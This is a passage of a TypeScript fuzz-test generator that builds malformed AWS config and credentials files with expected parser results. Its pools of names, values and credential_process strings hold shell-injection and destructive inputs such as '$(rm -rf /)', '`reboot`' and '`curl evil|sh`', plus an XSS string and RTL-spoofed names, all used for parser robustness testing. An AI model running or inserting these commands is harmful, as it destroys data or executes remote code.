/**
 * A seeded, reproducible generator of hostile AWS `config` + `credentials` file pairs, for
 * `hostileFiles.test.ts`.
 *
 * Each case is built from a model first (which profiles exist, with which properties, in which file, which
 * `source_profile` links, which lines are broken on purpose) and only then rendered to text with noise: a UTF-8
 * byte order mark, CRLF / lone CR / LF line ends, tabs and other odd whitespace, duplicate sections, comments,
 * continuation lines, sub-properties, unknown keys and sections, 100 KB lines, shell-special and unicode names.
 * So the generator knows, for every case, the profiles it wrote validly (with their merged properties, the
 * credentials file winning over the config file), the line of every header, and the file and 1-based line of
 * every line it broke deliberately, with the severity the reader must give it.
 *
 * The expectations follow the cross-SDK file-format specification (`test/fixtures/profile-parser-tests.json`) and the reader's
 * documented choices where the specification is silent (errors for what the specification calls a failure,
 * warnings for input it ignores). Nothing here calls the reader under test.
 */
import type { ProfileKind } from '../../src/core/profiles';

export type FileSlot = 'config' | 'credentials';
export type Severity = 'error' | 'warning';

/** One rendered line, without its line terminator. */
export interface Line {
  text: string;
  /** Set when the line is broken on purpose: the reader must report it with this severity. */
  broken?: { severity: Severity; why: string };
}

/** A line the generator broke on purpose. */
export interface BrokenLine {
  file: FileSlot;
  /** 1-based. */
  line: number;
  severity: Severity;
  why: string;
}

/** The part of `AwsProfile` that the model decides. */
export interface ExpectedModel {
  name: string;
  kind: ProfileKind;
  region: string | undefined;
  roleArn: string | undefined;
  sourceProfile: string | undefined;
  mfaSerial: string | undefined;
  externalId: string | undefined;
  ssoSession: string | undefined;
  ssoStartUrl: string | undefined;
  endpointUrl: string | undefined;
  declaredAccountId: string | undefined;
  hasStaticKeys: boolean;
  hasSessionToken: boolean;
  interactive: boolean;
  serviceEndpoints: Record<string, string>;
  chain: string[];
  /** The profile whose settings give the base credentials, when the chain ends in credentials. */
  base: string | undefined;
  /** AssumeRole calls after the base (0 when there are no credentials). */
  hopCount: number;
  locations: { file: string; line: number }[];
}

/** What one of the profile's `problems` must say. */
export interface ExpectedProblem {
  /** Every one of these substrings, in the same message. */
  includes: string[];
}

export interface ExpectedProfile {
  name: string;
  role: Role;
  /** Merged top-level properties (config first, credentials winning), exactly as the reader must give them. */
  properties: Map<string, string>;
  subProperties: Map<string, Map<string, string>>;
  model: ExpectedModel;
  /** Exactly these problems (one message each, in any order); empty means the profile must have none. */
  problems: ExpectedProblem[];
}

export interface HostileCase {
  seed: number;
  index: number;
  configPath: string;
  credentialsPath: string;
  config: string;
  credentials: string;
  /** Number of lines in each text, counted at `\r\n`, `\r` and `\n` (an empty text has one line). */
  lineCount: Record<FileSlot, number>;
  expected: Map<string, ExpectedProfile>;
  broken: BrokenLine[];
  /** Key, secret and token values written anywhere in the files; none may reach the profile model. */
  secrets: string[];
  /** Values written on a malformed section header: no problem message may quote even 8 characters of them. */
  headerSecrets: string[];
  /** What this case mixes in, for the coverage check of the test and for reading a failure. */
  features: Set<string>;
}

export type Role =
  | 'plain'
  | 'static'
  | 'selfStatic'
  | 'roleOk'
  | 'process'
  | 'sso'
  | 'ssoMissing'
  | 'cycle'
  | 'cycleTail'
  | 'missing'
  /** Static keys and a role of its own: as a source its keys are used and its role is not assumed. */
  | 'staticRole'
  /** Only one of the two keys. */
  | 'partial'
  /** role_arn without source_profile or credential_source. */
  | 'roleNoSource'
  /** role_arn with both source_profile and credential_source. */
  | 'bothSources'
  /** role_arn with credential_source = Environment. */
  | 'credSource';

/** Every feature a default run must have mixed in at least once (checked by the test). */
export const FEATURES = [
  'bom',
  'eol:lf',
  'eol:crlf',
  'eol:cr',
  'eol:mixed',
  'odd-whitespace',
  'tab',
  'duplicate-section',
  'same-profile-both-files',
  'credentials-override',
  'same-file-override',
  'profile-default',
  'bare-default',
  'default-decoy',
  'empty-section',
  'orphan-key',
  'orphan-indented',
  'unterminated-header',
  'header-trailing-text',
  'header-comment-char',
  'header-whitespace-name',
  'config-header-without-prefix',
  'credentials-header-with-prefix',
  'sso-session-in-credentials',
  'near-miss-section-type',
  'line-100k',
  'name-100k',
  'shell-name',
  'unicode-name',
  'rtl-name',
  'emoji-name',
  'quote-name',
  'proto-name',
  'quoted-header',
  'indented-header',
  'cycle:1',
  'cycle:2',
  'cycle:3',
  'cycle:4',
  'cycle:5',
  'cycle-tail',
  'missing-source',
  'missing-source-chain',
  'self-source-with-keys',
  'role-chain',
  'sso',
  'sso-missing-session',
  'process',
  'services',
  'unknown-key',
  'unknown-section',
  'continuation',
  'sub-properties',
  'sub-property-broken',
  'comment',
  'inline-comment',
  'no-equals',
  'nameless-property',
  'whitespace-in-key',
  'indented-after-header',
  'secret-on-broken-line',
  'secret-in-swallowed-section',
  'secret-in-broken-header',
  'static-role-source',
  'mfa-past-static-source',
  'reentered-selected',
  'partial-keys',
  'role-without-source',
  'both-sources',
  'credential-source',
  'source-without-credentials',
  'long-chain',
] as const;

// ---------------------------------------------------------------------------------------------------------------
// Random numbers: mulberry32, seeded per case from (seed, index), so one case replays on its own.

export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** An integer in [lo, hi]. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)];
  }

  shuffle<T>(items: T[]): T[] {
    for (let i = items.length - 1; i > 0; i--) {
      const j = Math.floor(this.next() * (i + 1));
      [items[i], items[j]] = [items[j], items[i]];
    }
    return items;
  }

  chars(length: number, alphabet: string): string {
    let out = '';
    for (let i = 0; i < length; i++) out += alphabet[Math.floor(this.next() * alphabet.length)];
    return out;
  }
}

/** The seed of case `index` of a run seeded with `seed`. */
export function caseSeed(seed: number, index: number): number {
  let z = (seed + Math.imul(index + 1, 0x9e3779b9)) >>> 0;
  z = Math.imul(z ^ (z >>> 16), 0x85ebca6b) >>> 0;
  z = Math.imul(z ^ (z >>> 13), 0xc2b2ae35) >>> 0;
  return (z ^ (z >>> 16)) >>> 0;
}

// ---------------------------------------------------------------------------------------------------------------
// Pools. Valid names have no whitespace (by `String.prototype.trim`'s definition), no `#` `;` `[` `]`, and do not
// both start and end with the same quote (a config header drops such quotes).

const SHELL_NAMES = ['$(rm${IFS}-rf${IFS}~)', '$(touch${IFS}/tmp/pwned)', '`id`', '`reboot`', '$HOME', '${PATH}', '|cat', '&&true', '>out', '<in', '*', '?', '!bang', '%PATH%', '~', 'a=b', 'a,b', '(paren)', '{brace}', '\\\\server\\share', "'$(id)"];
const QUOTE_NAMES = ["o'brien", 'say"hi"', "it's", '"half'];
const UNICODE_NAMES = ['שלום', 'مرحبا', '名前', 'Ωmega', 'e\u0301', 'zero\u200bwidth', 'Ünïcödé', 'ДевОпс'];
const RTL_NAMES = ['\u200fright-to-left', 'evil\u202etxt.exe', 'a\u200eb', '\u202bembed\u202c'];
const EMOJI_NAMES = ['🚀prod', '😀', '👨‍👩‍👧', 'team🔥', '🏳️‍🌈'];
const PROTO_NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'];
const PLAIN_NAMES = ['dev', 'Dev', 'prod-eu', 'team.alpha', 'a_b', 'x@y', 'ci+cd', '50%', 'ns:role', 'path/like', 'UPPER', '-', '.', '..', '0', '123456789012'];
/** Names that are not valid: they contain whitespace. */
const INVALID_NAMES = ['$(rm -rf /)', 'my profile', 'tab\tname', 'nb\u00a0sp', 'ideo\u3000space', 'em\u2003space', '`rm -rf ~`'];

const NAME_GROUPS: readonly [string, readonly string[]][] = [
  ['shell-name', SHELL_NAMES],
  ['quote-name', QUOTE_NAMES],
  ['unicode-name', UNICODE_NAMES],
  ['rtl-name', RTL_NAMES],
  ['emoji-name', EMOJI_NAMES],
  ['proto-name', PROTO_NAMES],
  ['plain-name', PLAIN_NAMES],
];

const REGIONS = ['us-east-1', 'eu-west-1', 'ap-south-1', 'il-central-1', 'us-gov-west-1', 'cn-north-1'];
/** Keys that decide a profile's kind, chain, endpoints or account: the generator sets them once, never overrides. */
const FREE_KEYS = ['output', 'cli_pager', 'duration_seconds', 'unknown_key', 'x-custom', 'Ünïcödé_kéy', 'key.with.dots', '$(whoami)', '`id`', '__proto__', 'constructor', 'toString', 'a:b', 'UPPER_KEY', 'retry_mode', 'max_attempts', 'ca_bundle', '😀key', 'Region'];
const MAP_KEYS = ['s3', 'ec2', 'sts', 'custom_map', 'dynamodb', '💾'];
const SUB_KEYS = ['max_concurrent_requests', 'addressing_style', 'endpoint_url', 'use_accelerate_endpoint', 'x', 'ключ', '__proto__', 'a.b'];
/** Single-line values: no leading or trailing whitespace, no `#`/`;` after whitespace, not starting with `#;[`. */
const VALUES = ['json', 'a=b=c', 'value;adjacent', 'value# Adjacent pound', '$(rm -rf /)', '`reboot`', '"quoted value"', "'single'", 'ünïcödé ✓', '🚀🚀', 'tab\tinside', 'C:\\Users\\x', 'http://127.0.0.1:4566/?a=1&b=2', '\u202eevil', '100%', 'a#b', 'x;y', '0', 'true', '<script>alert(1)</script>', 'שלום עולם'];
/** Continuation segments, already trimmed: `=` and comments are part of the value there. */
const CONTINUATIONS = ['more', 'value2 = 12', '-continued # Comment', 'x ; y', '🚀', '$(rm -rf /)', 'C:\\path', 'a=b', '\u202eevil', 'last line'];
/** Sub-property values, trimmed; comments are part of them. */
const SUB_VALUES = ['10', 'path', 'http://127.0.0.1:5000', 'true # not a comment', 'a=b', '', '$(id)', '名前'];

/** Whitespace between tokens of a line (never at its start): all of it is trimmed by the reader. */
const SEP = ['', ' ', ' ', ' ', '\t', '  ', ' \t ', '\u00a0', '\u3000', '\u2003', '\v', '\f', '\u202f'];
/** Indentation of continuation and sub-property lines. */
const INDENT = [' ', ' ', '  ', '\t', ' \t', '    ', '\u00a0', '\u3000'];
/** Whitespace-only "blank" lines. */
const BLANKS = ['', '', ' ', '\t', ' \t \u00a0', '\u3000'];
const COMMENTS = ['# comment', '; semicolon comment', '#', ';', '# [profile commented-out]', '; aws_secret_access_key = not-a-secret', '#=', '# 🚀 ünïcödé \u202e'];

const KB100 = 100 * 1024;

// ---------------------------------------------------------------------------------------------------------------
// The model.

type Value = string | Map<string, string>;

interface Assign {
  key: string;
  value: Value;
  /** `key =` followed only by broken sub-property lines (the value stays ''). */
  brokenSubs?: Line[];
}

type Item = { t: 'assign'; a: Assign } | { t: 'line'; line: Line };

interface Plan {
  name: string;
  role: Role;
  files: FileSlot[];
  /** For `default` in the config file: `[default]` (true) or `[profile default]` (false). */
  bareDefault: boolean;
  /** Properties set once (their final value), by file. */
  finals: Map<FileSlot, Assign[]>;
  /** Stale values, overridden later: same file (earlier) or config (when the final is in credentials). */
  stales: { file: FileSlot; a: Assign; before?: Assign }[];
  extraLines: Map<FileSlot, Line[]>;
  source?: string;
  /** The undefined profile at the end of a `missing` chain. */
  ghost?: string;
  mfa: boolean;
  token: boolean;
  /** For `partial`: which of the two keys it has. */
  partialKey?: 'aws_access_key_id' | 'aws_secret_access_key';
  account?: string;
  ssoSession?: string;
  problems: ExpectedProblem[];
  serviceEndpoints: Record<string, string>;
}

/** A run of lines starting with a section header, or prelude / separator lines. */
interface Block {
  lines: Line[];
  /** A profile section the model counts (header on `lines[0]`). */
  profile?: { name: string; bare: boolean; assigns: Assign[] };
}

class Builder {
  readonly r: Rng;
  readonly features = new Set<string>();
  readonly secrets: string[] = [];
  readonly headerSecrets: string[] = [];
  private uniq = 0;
  private readonly plans: Plan[] = [];
  private readonly byName = new Map<string, Plan>();
  private readonly ghosts: string[] = [];
  private readonly queues: Record<FileSlot, Block[][]> = { config: [], credentials: [] };
  private readonly ssoSessions = new Map<string, string>();

  /** How many 100 KB lines this case may still have: about one case in eight has up to two, to bound the run. */
  private bigLeft: number;

  constructor(readonly seed: number, readonly index: number) {
    this.r = new Rng(caseSeed(seed, index));
    this.bigLeft = this.r.chance(0.12) ? 2 : 0;
  }

  /** Whether to make this line a 100 KB one (probability `p`, within the case's budget). */
  private big(p: number): boolean {
    if (this.bigLeft <= 0 || !this.r.chance(p)) return false;
    this.bigLeft--;
    this.features.add('line-100k');
    return true;
  }

  build(): HostileCase {
    const r = this.r;
    this.makePlans();
    for (const plan of this.plans) this.layOut(plan);
    this.addDecoyDefault();
    this.addNoiseSections();
    for (const file of ['config', 'credentials'] as const) {
      for (let i = r.int(0, 3); i > 0; i--) this.queues[file].push([this.brokenHeaderBlock(file)]);
    }
    const configPath = r.pick(['/home/fuzz/.aws/config', '/home/fü zz/.aws/config', 'C:\\Users\\fuzz\\.aws\\config']);
    const credentialsPath = configPath.replace(/config$/, 'credentials');
    const rendered = { config: this.renderFile('config'), credentials: this.renderFile('credentials') };
    const paths = { config: configPath, credentials: credentialsPath };

    const broken: BrokenLine[] = [];
    for (const file of ['config', 'credentials'] as const) {
      rendered[file].lines.forEach((line, i) => {
        if (line.broken) broken.push({ file, line: i + 1, ...line.broken });
      });
    }
    return {
      seed: this.seed,
      index: this.index,
      configPath,
      credentialsPath,
      config: rendered.config.text,
      credentials: rendered.credentials.text,
      lineCount: { config: rendered.config.count, credentials: rendered.credentials.count },
      expected: this.expect(rendered, paths),
      broken,
      secrets: this.secrets,
      headerSecrets: this.headerSecrets,
      features: this.features,
    };
  }

  // --- names -----------------------------------------------------------------------------------------------------

  private takenNames = new Set<string>(['default']);

  private freshName(): string {
    const r = this.r;
    for (let attempt = 0; attempt < 20; attempt++) {
      let name: string;
      if (this.big(0.1)) {
        name = `L${this.uniq++}` + 'n'.repeat(r.int(KB100, KB100 + 2048));
        this.features.add('name-100k');
      } else if (r.chance(0.7)) {
        const [feature, pool] = r.pick(NAME_GROUPS);
        name = r.pick(pool);
        if (this.takenNames.has(name)) continue;
        this.features.add(feature);
      } else {
        name = `p${this.uniq++}-${r.chars(r.int(1, 6), 'abcxyz019_-.')}`;
      }
      if (this.takenNames.has(name)) continue;
      this.takenNames.add(name);
      return name;
    }
    const name = `fallback-${this.uniq++}`;
    this.takenNames.add(name);
    return name;
  }

  private ghostName(): string {
    const name = `ghost-${this.index}-${this.uniq++}${this.r.pick(['', '🚀', '$(id)', '\u202e'])}`;
    this.ghosts.push(name);
    this.takenNames.add(name);
    return name;
  }

  private secret(prefix: string, length: number): string {
    const value = prefix + this.r.chars(length, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789/+');
    this.secrets.push(value);
    return value;
  }

  private accessKeyId(): string {
    const value = 'AKIA' + this.r.chars(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567');
    this.secrets.push(value);
    return value;
  }

  private arn(account: string): string {
    return `arn:aws:iam::${account}:role/Role-${this.r.chars(4, 'abcdef0123')}`;
  }

  private account(): string {
    return this.r.chars(12, '0123456789');
  }

  // --- plans -----------------------------------------------------------------------------------------------------

  private newPlan(role: Role, name?: string): Plan {
    const r = this.r;
    const plan: Plan = {
      name: name ?? this.freshName(),
      role,
      files: [],
      bareDefault: false,
      finals: new Map([
        ['config', []],
        ['credentials', []],
      ]),
      stales: [],
      extraLines: new Map([
        ['config', []],
        ['credentials', []],
      ]),
      mfa: false,
      token: false,
      problems: [],
      serviceEndpoints: {},
    };
    const placement = r.next();
    plan.files = placement < 0.4 ? ['config'] : placement < 0.7 ? ['credentials'] : ['config', 'credentials'];
    if (plan.files.length === 2) this.features.add('same-profile-both-files');
    if (plan.name === 'default') {
      plan.bareDefault = r.chance(0.5);
      if (plan.files.includes('config')) this.features.add(plan.bareDefault ? 'bare-default' : 'profile-default');
    }
    this.plans.push(plan);
    this.byName.set(plan.name, plan);
    return plan;
  }

  /** Puts a property that decides kind/chain/endpoints into one of the plan's files. */
  private setOnce(plan: Plan, key: string, value: string, prefer?: FileSlot): void {
    const file = prefer && plan.files.includes(prefer) && this.r.chance(0.8) ? prefer : this.r.pick(plan.files);
    plan.finals.get(file)!.push({ key, value });
  }

  private makePlans(): void {
    const r = this.r;
    if (r.chance(0.35)) this.newPlan(r.pick(['plain', 'static', 'static', 'process'] as const), 'default');

    if (r.chance(0.4)) {
      const length = r.int(1, 5);
      this.features.add(`cycle:${length}`);
      const ring: Plan[] = [];
      for (let i = 0; i < length; i++) ring.push(this.newPlan('cycle'));
      ring.forEach((p, i) => {
        p.source = ring[(i + 1) % length].name;
        p.account = this.account();
      });
      if (r.chance(0.4)) {
        const tail = this.newPlan('cycleTail');
        tail.source = ring[r.int(0, length - 1)].name;
        tail.account = this.account();
        this.features.add('cycle-tail');
      }
    }
    if (r.chance(0.35)) {
      const length = r.int(1, 2);
      this.features.add(length === 1 ? 'missing-source' : 'missing-source-chain');
      const ghost = this.ghostName();
      let source = ghost;
      for (let i = 0; i < length; i++) {
        const p = this.newPlan('missing');
        p.source = source;
        p.ghost = ghost;
        p.account = this.account();
        source = p.name;
      }
    }
    const others = r.int(0, 6);
    for (let i = 0; i < others; i++) {
      this.newPlan(r.pick(['plain', 'plain', 'static', 'static', 'selfStatic', 'process', 'sso', 'ssoMissing'] as const));
    }
    // Settings the SDKs refuse, or read differently from how they look.
    if (r.chance(0.12)) {
      this.features.add('partial-keys');
      this.newPlan('partial');
    }
    if (r.chance(0.1)) {
      this.features.add('role-without-source');
      this.newPlan('roleNoSource');
    }
    if (r.chance(0.1)) {
      this.features.add('both-sources');
      const p = this.newPlan('bothSources');
      p.account = this.account();
      p.source = this.plans.length > 1 ? r.pick(this.plans.filter((x) => x !== p)).name : this.ghostName();
    }
    if (r.chance(0.12)) {
      this.features.add('credential-source');
      this.newPlan('credSource').account = this.account();
    }
    if (r.chance(0.25)) {
      // Keys and a role of its own, sourced from anything (even a missing profile): as the source of another role its
      // keys are used and nothing past it counts, not even its own mfa_serial.
      const p = this.newPlan('staticRole');
      p.account = this.account();
      p.mfa = r.chance(0.5);
      p.source = r.chance(0.2) || this.plans.length < 2 ? this.ghostName() : r.pick(this.plans.filter((x) => x !== p)).name;
      const role = this.newPlan('roleOk');
      role.source = p.name;
      role.account = this.account();
      this.features.add('static-role-source');
      if (p.mfa) this.features.add('mfa-past-static-source');
      if (r.chance(0.3)) {
        // The JavaScript SDK's quirk: the selected profile may be reached once more, as a source, where its keys count.
        p.source = role.name;
        this.features.add('reentered-selected');
      }
    }
    if (r.chance(0.08)) {
      // A long chain of roles, ending in keys.
      this.features.add('long-chain');
      let source = this.newPlan('static').name;
      for (let i = r.int(8, 16); i > 0; i--) {
        const p = this.newPlan('roleOk');
        p.source = source;
        p.account = this.account();
        source = p.name;
      }
    }
    const roles = r.int(0, 3);
    for (let i = 0; i < roles; i++) {
      // Mostly sources with credentials; sometimes one without (a plain profile, one key, a refused role).
      const good = this.plans.filter((p) => ['static', 'selfStatic', 'roleOk', 'process', 'sso', 'staticRole', 'credSource'].includes(p.role));
      const any = this.plans.filter((p) => p.role !== 'cycle' && p.role !== 'cycleTail');
      const source = r.chance(0.8) ? (good.length ? r.pick(good) : this.newPlan('static')) : any.length ? r.pick(any) : this.newPlan('plain');
      const p = this.newPlan('roleOk');
      p.source = source.name;
      p.account = this.account();
      p.mfa = r.chance(0.3);
      if (source.role === 'roleOk') this.features.add('role-chain');
      if (source.role === 'plain') this.features.add('source-without-credentials');
    }
    if (r.chance(0.25) && this.plans.length) this.addServices(r.pick(this.plans));

    for (const plan of this.plans) this.fillPlan(plan);
  }

  private addServices(plan: Plan): void {
    const r = this.r;
    const name = `svc-${this.uniq++}`;
    this.features.add('services');
    const endpoints: Record<string, string> = {};
    const lines: Line[] = [{ text: `[services${r.pick([' ', '\t', '  '])}${name}]` }];
    for (const svc of r.shuffle(['sns', 'STS', 's3', 'Iam']).slice(0, r.int(1, 3))) {
      const url = `http://127.0.0.1:${r.int(1024, 65535)}`;
      endpoints[svc.toLowerCase()] = url;
      lines.push({ text: `${svc} =` }, { text: `${r.pick(INDENT)}endpoint_url${r.pick(SEP)}=${r.pick(SEP)}${url}` });
      if (r.chance(0.3)) lines.push({ text: `${r.pick(INDENT)}signature_version = v4` });
    }
    this.queues.config.push([{ lines }]);
    plan.finals.get(r.pick(plan.files))!.push({ key: 'services', value: name });
    plan.serviceEndpoints = endpoints;
  }

  private fillPlan(plan: Plan): void {
    const r = this.r;
    switch (plan.role) {
      case 'static':
      case 'staticRole':
      case 'selfStatic': {
        this.setOnce(plan, 'aws_access_key_id', this.accessKeyId(), 'credentials');
        this.setOnce(plan, 'aws_secret_access_key', this.secret('Sk', 38), 'credentials');
        if (r.chance(0.4)) {
          plan.token = true;
          this.setOnce(plan, 'aws_session_token', this.secret('IQoJ', 120), 'credentials');
        }
        if (plan.role === 'selfStatic') {
          plan.account = this.account();
          this.setOnce(plan, 'role_arn', this.arn(plan.account));
          this.setOnce(plan, 'source_profile', plan.name);
          plan.source = plan.name;
          this.features.add('self-source-with-keys');
        }
        if (plan.role === 'staticRole') {
          this.setOnce(plan, 'role_arn', this.arn(plan.account!), 'config');
          this.setOnce(plan, 'source_profile', plan.source!, 'config');
          if (plan.mfa) this.setOnce(plan, 'mfa_serial', `arn:aws:iam::${this.account()}:mfa/user-${this.uniq++}`);
        }
        break;
      }
      case 'partial':
        plan.partialKey = r.chance(0.5) ? 'aws_access_key_id' : 'aws_secret_access_key';
        this.setOnce(plan, plan.partialKey, plan.partialKey === 'aws_access_key_id' ? this.accessKeyId() : this.secret('Pk', 38), 'credentials');
        break;
      case 'roleNoSource':
        this.setOnce(plan, 'role_arn', this.arn(this.account()), 'config');
        break;
      case 'bothSources':
        this.setOnce(plan, 'role_arn', this.arn(plan.account!), 'config');
        this.setOnce(plan, 'source_profile', plan.source!, 'config');
        this.setOnce(plan, 'credential_source', r.pick(['Environment', 'Ec2InstanceMetadata', 'EcsContainer']), 'config');
        break;
      case 'credSource':
        this.setOnce(plan, 'role_arn', this.arn(plan.account!), 'config');
        this.setOnce(plan, 'credential_source', 'Environment', 'config');
        if (r.chance(0.3)) this.setOnce(plan, 'external_id', `ext-${r.chars(8, 'abc123')}`);
        break;
      case 'roleOk':
      case 'cycle':
      case 'cycleTail':
      case 'missing': {
        this.setOnce(plan, 'role_arn', this.arn(plan.account!), 'config');
        this.setOnce(plan, 'source_profile', plan.source!, 'config');
        if (plan.mfa) this.setOnce(plan, 'mfa_serial', `arn:aws:iam::${this.account()}:mfa/user-${this.uniq++}`);
        if (r.chance(0.3)) this.setOnce(plan, 'external_id', `ext-${r.chars(8, 'abc123')}`);
        break;
      }
      case 'process':
        this.setOnce(plan, 'credential_process', r.pick(['/bin/sh -c "echo $(rm -rf /)"', '`curl evil|sh`', 'C:\\Program Files\\get creds.exe --profile x']));
        this.features.add('process');
        break;
      case 'sso':
      case 'ssoMissing': {
        const session = `corp-${this.uniq++}${r.pick(['', '🚀', '.x'])}`;
        plan.ssoSession = session;
        plan.account = this.account();
        this.setOnce(plan, 'sso_session', session, 'config');
        this.setOnce(plan, 'sso_account_id', plan.account, 'config');
        this.setOnce(plan, 'sso_role_name', 'Developer', 'config');
        if (plan.role === 'sso') {
          const url = `https://${r.chars(6, 'abcdef')}.awsapps.com/start`;
          this.ssoSessions.set(session, url);
          const lines: Line[] = [
            { text: `[sso-session${r.pick([' ', '\t'])}${session}]` },
            { text: `sso_start_url${r.pick(SEP)}=${r.pick(SEP)}${url}` },
            { text: `sso_region = ${r.pick(REGIONS)}` },
            { text: 'sso_registration_scopes = sso:account:access' },
          ];
          this.queues.config.push([{ lines }]);
          this.features.add('sso');
        } else {
          this.features.add('sso-missing-session');
        }
        break;
      }
      case 'plain':
        if (r.chance(0.3)) this.setOnce(plan, 'endpoint_url', `http://localhost:${r.int(1, 65535)}/${r.pick(['', '$(id)', '🚀'])}`);
        break;
    }

    // Free properties: region, unknown keys, continuation values, sub-properties, and stale values overridden later.
    const keys: string[] = [];
    if (r.chance(0.6)) keys.push('region');
    for (const k of r.shuffle([...FREE_KEYS]).slice(0, r.int(0, 3))) keys.push(k);
    if (r.chance(0.3)) keys.push(r.pick(MAP_KEYS));
    if (keys.some((k) => k !== 'region')) this.features.add('unknown-key');
    for (const key of keys) {
      const file = r.pick(plan.files);
      const a: Assign = { key, value: this.freeValue(key) };
      plan.finals.get(file)!.push(a);
      if (r.chance(0.3)) {
        const staleFile = file === 'credentials' && plan.files.includes('config') && r.chance(0.6) ? 'config' : file;
        plan.stales.push({ file: staleFile, a: { key, value: this.freeValue(key) }, before: staleFile === file ? a : undefined });
        this.features.add(staleFile === file ? 'same-file-override' : 'credentials-override');
      }
    }
    if (plan.role === 'plain' && r.chance(0.15)) {
      // `aws_secret_access_key =` with the key wrapped onto the next, indented, line: a broken sub-property.
      const s = this.secret('Wr', 38);
      this.features.add('secret-on-broken-line');
      this.features.add('sub-property-broken');
      plan.finals.get(r.pick(plan.files))!.push({
        key: 'aws_secret_access_key',
        value: '',
        brokenSubs: [{ text: `${r.pick(INDENT)}${s}`, broken: { severity: 'error', why: 'wrapped secret: sub-property without "="' } }],
      });
    }

    // Lines broken inside the plan's sections (never right before an indented line).
    for (const file of plan.files) {
      for (let i = r.chance(0.25) ? r.int(1, 2) : 0; i > 0; i--) plan.extraLines.get(file)!.push(this.brokenPropertyLine());
      for (let i = r.chance(0.4) ? r.int(1, 2) : 0; i > 0; i--) plan.extraLines.get(file)!.push(this.commentOrBlank());
    }
  }

  private freeValue(key: string): Value {
    const r = this.r;
    if (key === 'region') return r.pick(REGIONS);
    if (MAP_KEYS.includes(key) && r.chance(0.7)) {
      this.features.add('sub-properties');
      const map = new Map<string, string>();
      for (const k of r.shuffle([...SUB_KEYS]).slice(0, r.int(1, 3))) map.set(k, r.pick(SUB_VALUES));
      return map;
    }
    if (this.big(0.2)) {
      return r.chars(16, 'abcdefXYZ😀') + 'v'.repeat(r.int(KB100, KB100 + 1024));
    }
    let value = r.pick(VALUES);
    if (r.chance(0.2)) {
      this.features.add('continuation');
      for (let i = r.int(1, 3); i > 0; i--) value += '\n' + r.pick(CONTINUATIONS);
    }
    return value;
  }

  private commentOrBlank(): Line {
    const r = this.r;
    if (r.chance(0.5)) return { text: r.pick(BLANKS) };
    this.features.add('comment');
    if (this.big(0.1)) {
      return { text: r.pick(['#', ';']) + ' [profile x] = y '.repeat(KB100 / 16) };
    }
    return { text: r.pick(COMMENTS) };
  }

  /** A non-indented line inside a section that the reader must report. */
  private brokenPropertyLine(): Line {
    const r = this.r;
    let kind = r.int(0, 7);
    if (kind === 4 && !this.big(1)) kind = 0;
    switch (kind) {
      case 0:
        this.features.add('no-equals');
        return { text: r.pick(['this line has no equals sign', 'region: us-east-1', '$(rm -rf /)', '🚀', 'key\u2028value']), broken: { severity: 'error', why: 'no "="' } };
      case 1:
        this.features.add('nameless-property');
        return { text: `=${r.pick(SEP)}${r.pick(VALUES)}`, broken: { severity: 'error', why: 'nameless property' } };
      case 2:
        this.features.add('whitespace-in-key');
        return { text: `${r.pick(['bad key', 'nb\u00a0sp', 'a\tb', '$(rm -rf)'])} = ${r.pick(VALUES)}`, broken: { severity: 'warning', why: 'whitespace in a property name' } };
      case 3: {
        this.features.add('secret-on-broken-line');
        if (r.chance(0.3)) {
          // The "=" is missing, but the token's base64 padding has one: the whole "key token" is a name with
          // whitespace in it, which is ignored with a warning.
          const t = this.secret('IQoJ', 100);
          return { text: r.pick([`aws_session_token ${t}==`, `aws_session_token: ${t}=`]), broken: { severity: 'warning', why: 'token after a missing "=", padded' } };
        }
        const s = this.secret('Bk', 38);
        return { text: r.pick([`aws_secret_access_key: ${s}`, `aws_secret_access_key ${s}`, `aws_session_token\t${s}`, `${s}`]), broken: { severity: 'error', why: 'secret on a line without "="' } };
      }
      case 4:
        return r.chance(0.5)
          ? { text: 'x'.repeat(r.int(KB100, KB100 + 1024)), broken: { severity: 'error', why: '100 KB line without "="' } }
          : { text: '='.repeat(r.int(KB100, KB100 + 1024)), broken: { severity: 'error', why: '100 KB of "="' } };
      default:
        this.features.add('no-equals');
        // Never "[" first: that is a header line, which would end the section.
        return { text: r.pick(['}', ']', 'profile', '"', '\\']) + r.pick(['', ' x', ' ]']), broken: { severity: 'error', why: 'junk line' } };
    }
  }

  // --- sections --------------------------------------------------------------------------------------------------

  private header(plan: Plan, file: FileSlot): string {
    const r = this.r;
    const name = plan.name;
    let text: string;
    if (file === 'config') {
      if (name === 'default' && plan.bareDefault) {
        text = r.pick(['[default]', '[ default ]', '[\tdefault]']);
      } else {
        const quoted = r.chance(0.1);
        if (quoted) this.features.add('quoted-header');
        const n = quoted ? `${r.pick(['"', "'"])}` : '';
        const sep = r.pick([' ', ' ', '\t', '   ', ' \t']);
        if (sep.includes('\t')) this.features.add('tab');
        text = r.chance(0.15) ? `[ profile${sep}${n}${name}${n}\t]` : `[profile${sep}${n}${name}${n}]`;
      }
    } else {
      text = r.chance(0.15) ? `[${r.pick([' ', '\t', '  '])}${name}${r.pick([' ', '\t', ''])}]` : `[${name}]`;
    }
    if (r.chance(0.1)) {
      text += r.pick([' # comment', '\t; comment', '# adjacent', ';adjacent']);
      this.features.add('inline-comment');
    }
    if (r.chance(0.08)) {
      text = r.pick([' ', '\t', '  ']) + text;
      this.features.add('indented-header');
    }
    return text;
  }

  /** Orders the plan's items per file and splits them into one or more sections of that file. */
  private layOut(plan: Plan): void {
    const r = this.r;
    for (const file of plan.files) {
      const items: Item[] = r.shuffle(plan.finals.get(file)!.map((a): Item => ({ t: 'assign', a })));
      for (const stale of plan.stales.filter((s) => s.file === file)) {
        const limit = stale.before ? items.findIndex((it) => it.t === 'assign' && it.a === stale.before) : items.length;
        items.splice(r.int(0, limit), 0, { t: 'assign', a: stale.a });
